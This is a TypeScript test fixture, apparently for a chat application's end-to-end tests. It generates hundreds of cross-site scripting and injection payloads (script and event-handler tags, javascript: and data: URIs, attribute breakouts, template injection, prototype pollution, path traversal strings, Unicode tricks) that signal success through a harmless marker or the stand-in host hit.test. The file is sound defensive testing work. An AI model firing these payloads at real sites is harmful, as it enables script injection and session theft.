// Text that tries to become something else. Each payload that runs says so in one of five ways: it calls `hit`, which
// tests bind, opens a dialog, changes the title, leaves the page, or asks another site for something.

const CALLS = ['hit()', 'alert(1)', "top.document.title='hit'", "location='http://hit.test/'", 'top.hit()'];
const FOREIGN = 'http://hit.test/x';

const call = (index: number) => CALLS[index % CALLS.length] ?? '';
/** A call without quotes and without spaces, for where these would end something. */
const bare = (index: number) => ['hit()', 'alert(1)', 'top.hit()', 'hit`1`'][index % 4] ?? '';

const SELF_FIRING = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<script type=module>${js}</script>`,
  (js: string) => `<ScRiPt>${js}</sCrIpT>`,
  (js: string) => `<script/x>${js}</script >`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<svg onload="${js}">`,
  (js: string) => `<svg/onload=${js.replaceAll(' ', '')}>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<img/src=x/onerror="${js}"/>`,
  (js: string) => `<IMG SRC=x OnErRoR="${js}">`,
  (js: string) => `<image src=x onerror="${js}">`,
  (js: string) => `<audio src=x onerror="${js}"></audio>`,
  (js: string) => `<video><source src=x onerror="${js}"></video>`,
  (js: string) => `<object data=x:y onerror="${js}"></object>`,
  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
  (js: string) => `<iframe srcdoc="<script>${js.replace('location', 'top.location')}</script>"></iframe>`,
  (js: string) => `<iframe onload="${js}"></iframe>`,
  (js: string) => `<input autofocus onfocus="${js}">`,
  (js: string) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  (js: string) => `<style onload="${js}"></style>`,
  (js: string) => `<link rel=stylesheet href=x onerror="${js}">`,
  (js: string) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js: string) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${js}">x</b>`,
  (js: string) => `<embed src="javascript:${js}">`,
  (js: string) => `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
  (js: string) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  (js: string) => `<template><b></template><img src=x onerror="${js}">`,
].map((shape, index) => shape(call(index)));

/** What gets out of something first. */
const BREAKOUTS = [
  ...['"', "'", '`', '>', '">', "'>", '-->', ']]>', '--!>', '*/', '}}', '\\', '\\"', '"/>', '</b>'],
  ...['</title>', '</textarea>', '</style>', '</script>', '</pre>', '</noscript>', '</xmp>', '</template>'],
  ...['</option></select>', '</svg>', '</math>', '</a>', '</span></div>', '</iframe>', '<!--', '<![CDATA['],
].map((out, index) => `${out}<img src=x onerror=${bare(index)}>`);

const ATTRIBUTES = [
  ...['"', "'", '" ', "' ", '`', '"\n', '"/', '\u00a0"'].map(
    (out, index) => `a${out}autofocus onfocus=${bare(index)} x=${out}`,
  ),
  `" style="background:url(${FOREIGN})`,
  `" style="width:expression(hit())`,
  `x" onmouseover="hit()" y="`,
  `x' onclick='hit()' y='`,
];

const ADDRESSES = [
  ...['javascript:hit()', 'JaVaScRiPt:hit()', 'javascript://%0ahit()', 'javascript:/*--></script>*/hit()'],
  ...['java\tscript:hit()', 'java\nscript:hit()', '\u0001javascript:hit()', 'javascript&colon;hit()'],
  ...[
    '&#106;avascript:hit()',
    '&#x6A;avascript:hit()',
    'vbscript:hit()',
    'livescript:hit()',
    'feed:javascript:hit()',
  ],
  ...['data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='],
  ...[
    'data:image/svg+xml,<svg onload=hit()>',
    'blob:http://hit.test/x',
    'file:///etc/passwd',
    'view-source:x',
  ],
  ...['http://hit.test/"onmouseover=hit()//', "https://hit.test/'onfocus='hit()'autofocus='"],
  ...[
    'https://hit.test/<script>hit()</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
    'https://hit.test/`${hit()}`',
    'https://hit.test/?a=b&lt;&#60;',
  ],
  ...[
    'http://javascript:hit()@hit.test/',
    'http:javascript:hit()',
    'mailto:x@hit.test?subject=<script>hit()</script>',
  ],
  ...['//hit.test/x', '\\\\hit.test\\x', '/\\hit.test', 'http:///hit.test', 'https:hit.test', 'x://hit.test'],
  ...['[x](javascript:hit())', '![x](http://hit.test/x)', '<javascript:hit()>', '[x]: javascript:hit()'],
];

const MARKUP = [
  `<a href="javascript:hit()">x</a>`,
  `<a href=http://hit.test/ target=_top>x</a>`,
  `<form action=javascript:hit()><button autofocus>x</button></form>`,
  `<form action=${FOREIGN}><input type=submit></form>`,
  `<base href=http://hit.test/>`,
  `<meta http-equiv=refresh content="0;url=http://hit.test/">`,
  `<meta http-equiv=refresh content="0;url=javascript:hit()">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href=${FOREIGN}>`,
  `<link rel=preload as=image href=${FOREIGN}>`,
  `<link rel=import href=${FOREIGN}>`,
  `<img src=${FOREIGN}>`,
  `<img srcset="${FOREIGN} 1x">`,
  `<picture><source srcset=${FOREIGN}><img></picture>`,
  `<video poster=${FOREIGN}></video>`,
  `<audio src=${FOREIGN} autoplay></audio>`,
  `<body background=${FOREIGN}>`,
  `<table background=${FOREIGN}><td>x</table>`,
  `<input type=image src=${FOREIGN}>`,
  `<svg><image href=${FOREIGN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x" /></svg>`,
  `<svg><a href="javascript:hit()"><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=hit()></svg>`,
  `<math href="javascript:hit()">x</math>`,
  `<style>*{background:url(${FOREIGN})}</style>`,
  `<style>@import "${FOREIGN}";</style>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<b style="background:url(${FOREIGN})">x</b>`,
  `<iframe src=${FOREIGN}></iframe>`,
  `<frameset><frame src=${FOREIGN}></frameset>`,
  `<object data=${FOREIGN}></object>`,
  `<embed src=${FOREIGN}>`,
  `<script src=${FOREIGN}></script>`,
  `<script src=//hit.test/x></script>`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>">`,
  `<textarea autofocus onfocus=hit()>`,
  `<select autofocus onfocus=hit()>`,
  `<keygen autofocus onfocus=hit()>`,
  `<marquee onstart=hit()>x</marquee>`,
  `<dialog open onclose=hit()>x</dialog>`,
  `<button popovertarget=p>x</button><b popover id=p onbeforetoggle=hit()>`,
  `<x id=x tabindex=1 onfocus=hit() autofocus>`,
  `<xmp><img src=x onerror=hit()></xmp>`,
  `<plaintext><img src=x onerror=hit()>`,
  `<!--><img src=x onerror=hit()>-->`,
  `<!-- --!><img src=x onerror=hit()>`,
  `<?xml version="1.0"?><img src=x onerror=hit()>`,
  `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=hit()>">]>&e;`,
];

/** Pieces that are cut off, and tags that never end. */
const UNCLOSED = [
  ...[
    '<',
    '<a',
    '<img src=x onerror=hit()',
    '<img src="x',
    "<img src='x",
    '<script>hit()',
    '<script',
    '</',
    '<!',
  ],
  ...[
    '<!--',
    '<style>',
    '<textarea>',
    '<title>',
    '<plaintext>',
    '<svg><style>',
    '<math><mi>',
    '<select><option>',
  ],
  ...[
    '<b><i><u>',
    '</main></body></html>',
    '<<script>hit()//<</script>',
    '<scr<script>ipt>hit()</scr</script>ipt>',
  ],
  ...['&lt;img src=x onerror=hit()&gt;', '&#60;script&#62;hit()&#60;/script&#62;', '&amp;lt;script&amp;gt;'],
  ...[
    '&#x3c;img src=x onerror=hit()&#x3e;',
    '&lt',
    '&LT;script&GT;',
    '%3Cscript%3Ehit()%3C/script%3E',
    '&',
    '&amp;',
  ],
];

const TEMPLATES = [
  ...[
    '{{constructor.constructor("hit()")()}}',
    '{{username}}',
    '{{main}}',
    '{{csrf}}',
    '{{error}}',
    '{{title}}',
  ],
  ...[
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
    '${hit()}',
    '#{hit()}',
    '<%= hit() %>',
    '{% raw %}<img src=x onerror=hit()>',
    '{hit()}',
    '[[hit()]]',
    '@{hit()}',
  ],
  ...[
    '$&',
    '$1',
    "$'",
    '$`',
    '\\u003cimg src=x onerror=hit()\\u003e',
    '\\x3cscript\\x3ehit()',
    '\\074script\\076',
  ],
  ...[
    '"};hit();//',
    "';hit();//",
    '`;hit();//',
    '</script><script>hit()//',
    '__proto__',
    '{"__proto__":{"x":1}}',
  ],
  ...['{"type":"reset"}', '{"__html":"<img src=x onerror=hit()>"}', '%s%n%x', '=hit()', '../../etc/passwd'],
];

const UNICODE = [
  '\u202e<img src=x onerror=hit()>',
  'abc\u202etxt.exe\u202c',
  '\u2066<script>hit()</script>\u2069',
  '\u200b<script>hit()</script>',
  'a\ufeff<script>hit()</script>',
  '＜script＞hit()＜/script＞',
  '‹script›hit()‹/script›',
  '<ſcript>hit()</ſcript>',
  '<\u0131mg src=x onerror=hit()>',
  '<img\u00a0src=x onerror=hit()>',
  '<img\u2028src=x\u2028onerror=hit()>',
  '<img\u000csrc=x\u000conerror=hit()>',
  '<img\tsrc=x\tonerror=hit()>',
  '<img\nsrc=x\nonerror=hit()\n>',
  '<scr\u00adipt>hit()</scr\u00adipt>',
  '\ufffd<script>hit()</script>',
  '\u{e0001}<img src=x onerror=hit()>',
  'İ<img src=x onerror=hit()>'.repeat(3),
  `z${'\u0301'.repeat(40)}<img src=x onerror=hit()>`,
  'مرحبا <script>hit()</script> שלום',
  '👩‍👩‍👧‍👦<svg onload=hit()>👍🏽',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '\u001b[31m<b>x</b>',
  'a\u0001b\u0008c\u007f<script>hit()</script>',
];

const LONG = [
  `${'A'.repeat(4_000)}<img src=x onerror=hit()>`,
  `<img src=x onerror=hit() ${'a=b '.repeat(900)}>`,
  '<b>'.repeat(600),
  `${'<div>'.repeat(400)}<script>hit()</script>`,
  '&lt;'.repeat(900),
  `https://hit.test/${'%3Cscript%3E'.repeat(200)}`,
  '<!--'.repeat(500),
  '"\'><'.repeat(500),
];

export const PAYLOADS: readonly string[] = [
  ...new Set(
    [
      ...SELF_FIRING,
      ...BREAKOUTS,
      ...ATTRIBUTES,
      ...ADDRESSES,
      ...MARKUP,
      ...UNCLOSED,
      ...TEMPLATES,
      ...UNICODE,
      ...LONG,
    ].map((payload) => payload.trim()),
  ),
];

/** A seventh of them, another one each day of the week; with CHATD_E2E_WHOLE all of them. */
export const TRIED: readonly string[] =
  process.env.CHATD_E2E_WHOLE === undefined
    ? PAYLOADS.filter((_, index) => index % 7 === Math.floor(Date.now() / 86_400_000) % 7)
    : PAYLOADS;
